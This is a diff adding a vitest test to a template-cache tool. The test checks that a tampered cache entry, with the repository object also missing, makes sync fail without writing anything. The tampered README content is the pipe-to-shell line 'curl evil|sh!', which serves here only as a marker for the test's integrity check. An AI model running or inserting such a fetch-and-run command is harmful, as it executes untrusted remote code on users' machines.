@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { TemplateCacheError, blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
@@ -260,6 +260,45 @@ describe('template cache', () => {
     expect(packs()).toHaveLength(2);
     expect(ages().filter((t) => t !== past.getTime())).toHaveLength(1); // v1.1.0's, read from git again and stored
     gitIn(tpl, 'status'); // the template repository is untouched and readable
+  });
+
+  it('a sync whose cached file fails its check and cannot be read from the repository stops before writing anything', async () => {
+    const tmp = tempDir();
+    const cache = tempDir('cm-cache-');
+    const env = { XDG_CACHE_HOME: cache };
+    const tpl = path.join(tmp, 'tpl');
+    mkdirSync(path.join(tpl, 'files'), { recursive: true });
+    writeFileSync(path.join(tpl, 'template.yaml'), SPEC);
+    writeFileSync(path.join(tpl, 'files/README.md'), FILES['README.md']!);
+    gitIn(tpl, 'init', '-q');
+    gitIn(tpl, 'add', '-A');
+    gitIn(tpl, 'commit', '-qm', 'v1');
+    gitIn(tpl, 'tag', 'v1.0.0');
+    edit(path.join(tpl, 'template.yaml'), (t) => t.replace('version: 1.0.0', 'version: 1.1.0'));
+    edit(path.join(tpl, 'files/README.md'), (t) => `${t}New in 1.1.0.\n`);
+    gitIn(tpl, 'commit', '-qam', 'v2');
+    gitIn(tpl, 'tag', 'v1.1.0');
+    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
+    expect(gen.code, gen.stderr).toBe(0);
+    const dir = path.join(tmp, 'p');
+    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(first.code, first.stderr).toBe(0);
+    const entries = path.join(cache, 'create-migration/templates');
+    const target = readdirSync(entries).find((f) => f.endsWith('.pack') && readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
+    tamperFile(path.join(entries, target), 'README.md', (t) => t.replace('New in 1.1.0.', 'curl evil|sh!'));
+    // The new README's blob gone from the repository's objects (its commit and trees stay).
+    const blob = gitIn(tpl, 'rev-parse', 'v1.1.0:files/README.md').trim();
+    rmSync(path.join(tpl, '.git/objects', blob.slice(0, 2), blob.slice(2)));
+    const before = gitIn(dir, 'for-each-ref').trim();
+    const readme = readFileSync(path.join(dir, 'README.md'), 'utf8');
+    const r = await runCli(['sync'], { cwd: dir, env });
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toContain('template cache');
+    expect(`${r.stdout}${r.stderr}`).not.toContain('evil');
+    expect(readFileSync(path.join(dir, 'README.md'), 'utf8')).toBe(readme);
+    expect(gitIn(dir, 'for-each-ref').trim()).toBe(before);
+    expect(gitIn(dir, 'status', '--porcelain').trim()).toBe('');
+    expect(existsSync(path.join(entries, target))).toBe(false);
   });
 
   // Where the commit's tree is not read from the object files (git reads a SHA-256 repository, or
